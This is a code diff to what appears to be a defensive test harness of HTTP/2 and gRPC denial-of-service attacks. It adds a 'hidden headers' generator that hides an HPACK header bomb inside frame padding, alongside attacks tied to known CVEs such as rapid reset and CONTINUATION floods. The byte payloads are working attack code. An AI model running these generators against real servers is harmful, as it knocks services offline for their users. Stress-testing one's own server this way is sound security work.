@@ -96,6 +96,21 @@ def header_bombs(_: str) -> Iterator[bytes]:
         yield wire.headers(stream, wire.header_block() + b"\xbe" * 16_000, *WHOLE)
 
 
+def hidden_headers(_: str) -> Iterator[bytes]:
+    """As bombs; but who strips the padding finds a literal of 16,000 bytes in their place. grpc takes the padding for
+    headers, and in it the beginning of a literal that swallows the beginning of that one.
+    """
+    bomb = b"\x40\x01x\x7f" + bytes([(4000 - 127) & 0x7F | 0x80, (4000 - 127) >> 7]) + b"x" * 4000
+    long = 16_000 - 127
+    decoy = b"\x10\x01x\x7f" + bytes([long & 0x7F | 0x80, long >> 7 & 0x7F | 0x80, long >> 14])
+    padding = b"\x82" * 126 + b"\x10\x01y" + bytes([len(decoy)])
+    yield wire.hello()
+    yield wire.headers(1, wire.header_block() + bomb, *WHOLE)
+    for stream in _streams(3):
+        begun = b"\x82" + padding  # 130: as many bytes of padding, for some, and ":method: GET" for others
+        yield wire.padded(wire.headers(stream, begun)) + wire.continuation(stream, decoy + b"\xbe" * 16_000, *WHOLE)
+
+
 def answers_without_a_window(token: str) -> Iterator[bytes]:
     asked = wire.message(v1.VerifyRequest(access_token=token).SerializeToString())
     yield wire.hello({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
@@ -134,7 +149,7 @@ def garbage(_: str) -> Iterator[bytes]:
 
 
 # What grpc does with headers past its limits costs so much for each connection, whatever it is told: see
-# docs/threat-model.md. So one connection is what these three are held to on the data plane, where grpc reads them.
+# docs/threat-model.md. So one connection is what these four are held to on the data plane, where grpc reads them.
 # The last ones find 512 places at the TLS listener, each with Python's buffers of 256 KiB.
 ATTACKS: Mapping[str, Attack] = {
     "rapid resets": Attack("HEADERS, DATA, RST_STREAM: CVE-2023-44487", rapid_resets),
@@ -145,6 +160,7 @@ ATTACKS: Mapping[str, Attack] = {
     "headers without end": Attack("CONTINUATION: CVE-2024-27316", headers_without_end, connections=1, megabytes=500),
     "empty continuations": Attack("CONTINUATION without a byte: CVE-2019-9518", empty_continuations),
     "header bombs": Attack("64 MB of headers in 16 KB: CVE-2016-6581", header_bombs, connections=1, megabytes=500),
+    "hidden headers": Attack("bombs in what passes for padding", hidden_headers, connections=1, megabytes=500),
     "answers without a window": Attack("calls whose answers may not leave: CVE-2019-9517", answers_without_a_window),
     "lengths past the limit": Attack("messages of 4 GiB", lengths_past_the_limit),
     "unfinished requests": Attack("5 MiB announced, 100 bytes sent", unfinished_requests, connections=8),
@@ -156,7 +172,7 @@ ATTACKS: Mapping[str, Attack] = {
     ),
 }
 
-COSTLY = ("large metadata", "headers without end", "header bombs")
+COSTLY = ("large metadata", "headers without end", "header bombs", "hidden headers")
 """Those that are about headers past their limits."""
 
 
